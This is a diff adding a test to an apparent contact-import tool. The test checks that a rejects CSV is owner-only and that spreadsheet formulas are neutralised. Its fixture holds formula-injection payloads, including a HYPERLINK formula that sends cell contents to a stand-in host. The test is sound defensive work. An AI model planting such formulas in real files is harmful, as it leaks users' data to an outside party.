@@ -7,6 +7,7 @@ import io
 import os
 import pty
 import shutil
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -564,3 +565,25 @@ def test_the_prefix_cache_answers_as_phonenumbers_would(
     cached = normalize_phone(raw, "US")
     number = phonenumbers.parse(raw, "US")
     assert cached == phones._checked(number, "US")
+
+
+def test_the_rejects_file_is_for_the_owner_only_and_runs_no_formula(
+    database_url: str, campaign_id: int, tmp_path: Path
+) -> None:
+    source = tmp_path / "voters.csv"
+    source.write_text(
+        "first_name,last_name,phone\n"
+        'Ann,"=HYPERLINK(""http://x.example/?""&A1,""click"")",not-a-phone\n'
+        "@SUM(A1),Lee,+12\n"
+        "Bo,Good,+1 614 555 0100\n",
+        encoding="utf-8",
+    )
+    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))
+    assert done.returncode == 0, done.stderr
+    rejects_file = tmp_path / "voters.rejects.csv"
+    assert stat.S_IMODE(rejects_file.stat().st_mode) == 0o600
+    with rejects_file.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[1][1] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
+    assert rows[2][0] == "'@SUM(A1)"
+    assert rows[2][2] == "+12"  # a plain number stays as it was
